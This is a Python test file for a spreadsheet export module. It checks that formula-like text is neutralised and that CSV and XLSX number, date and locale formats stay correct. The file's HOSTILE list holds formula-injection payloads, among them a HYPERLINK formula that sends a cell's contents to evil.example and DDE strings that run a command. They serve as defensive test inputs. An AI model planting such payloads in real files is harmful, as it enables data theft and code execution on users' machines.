"""The one export writer: formulas neutralised, numbers kept, CSV per language, XLSX number formats."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from funnel_model.export import FORMULA_PREFIXES, neutralise, safe_frame, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
]


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "deal": [*HOSTILE, "Поставка", None],
            "amount": [1_200_000.5, -5_000.0, 0.0, 3.25, 10.0, 20.0, 30.0, 40.0],
            "share": [0.253, 0.5, 1.0, 0.0, 0.1, 0.2, 0.3, 0.4],
            "deals": [1, 2, 3, 4, 5, 6, 7, 8],
            "closed": pd.to_datetime(["2024-03-15", None, *["2024-01-02"] * 6]),
        }
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Иванов", "a=b", " =x", "", 5, -5, 1.5, None, True])
def test_other_values_are_kept(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers_and_headers_are_neutralised_too():
    f = frame().rename(columns={"deal": "=deal"})
    safe = safe_frame(f)
    assert list(safe.columns) == ["'=deal", "amount", "share", "deals", "closed"]
    assert safe["amount"].tolist() == f["amount"].tolist() and safe["amount"].dtype == "float64"
    assert safe["deals"].dtype == "int64"
    assert safe["'=deal"].tolist()[:6] == ["'" + h for h in HOSTILE]
    assert f["=deal"].iloc[0] == HOSTILE[0]  # the caller's frame is untouched


def test_the_russian_csv_opens_in_a_russian_excel():
    data = to_csv(frame(), "ru")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    back = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=False)
    assert back["amount"].tolist() == [1_200_000.5, -5_000.0, 0.0, 3.25, 10.0, 20.0, 30.0, 40.0]
    assert back["deal"].tolist()[:7] == [*("'" + h for h in HOSTILE), "Поставка"]
    assert back["closed"].tolist()[:3] == ["15.03.2024", "", "02.01.2024"]  # ДД.ММ.ГГГГ
    assert b"1200000,5" in data and b";-5000,0;" in data


def test_the_english_csv_is_plain():
    data = to_csv(frame(), "en")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == ["deal", "amount", "share", "deals", "closed"]
    assert back["share"].tolist()[0] == 0.253
    assert back["closed"].tolist()[0] == "2024-03-15"
    assert back["deal"].tolist()[4] == "'\t=1+1" and back["deal"].tolist()[5] == "'\r=1+1"  # CR kept in its cell


def test_the_xlsx_keeps_numbers_with_formats_and_text_as_text():
    data = to_xlsx(
        {"pay": frame(), "other: [1/2]": frame().head(1)},
        {"amount": "money", "share": "percent", "deals": "count"},
        lang="ru",
        currency="₽",
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["pay", "other_ _1_2_"]
    sheet = book["pay"]
    assert [c.value for c in sheet[1]] == ["deal", "amount", "share", "deals", "closed"]
    assert sheet["B2"].value == 1_200_000.5 and sheet["B2"].number_format == '#,##0 "₽"'
    assert sheet["C2"].value == 0.253 and sheet["C2"].number_format == "0.0%"
    assert sheet["D2"].value == 1 and sheet["D2"].number_format == "#,##0"
    assert sheet["E2"].value.date().isoformat() == "2024-03-15" and sheet["E2"].number_format == "DD.MM.YYYY"
    for row in sheet.iter_rows(min_row=2, max_col=1):
        cell = row[0]
        assert cell.data_type in ("s", "n")  # never a formula ("f")
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_PREFIXES), cell.value


def test_an_english_xlsx_has_iso_dates_and_no_currency():
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame(), {"amount": "money"}))).active
    assert sheet.title == "data"
    assert sheet["B2"].number_format == "#,##0" and sheet["E2"].number_format == "YYYY-MM-DD"


@settings(deadline=None, max_examples=60)  # an XLSX per example: slow on a loaded machine
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_no_text_cell_of_any_file_can_start_a_formula(texts):
    table = pd.DataFrame({"name": texts, "n": range(len(texts))})
    for lang, options in (("ru", {"sep": ";", "decimal": ","}), ("en", {})):
        back = pd.read_csv(
            io.BytesIO(to_csv(table, lang)), encoding="utf-8-sig", dtype=str, keep_default_na=False, **options
        )
        assert back["n"].tolist() == [str(i) for i in range(len(texts))]
        for original, written in zip(texts, back["name"], strict=True):
            assert not written.startswith(FORMULA_PREFIXES)
            assert written in (original, "'" + original)
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    for (cell,) in sheet.iter_rows(min_row=2, max_col=1):
        assert cell.data_type != "f"
        assert not str(cell.value or "").startswith(FORMULA_PREFIXES)
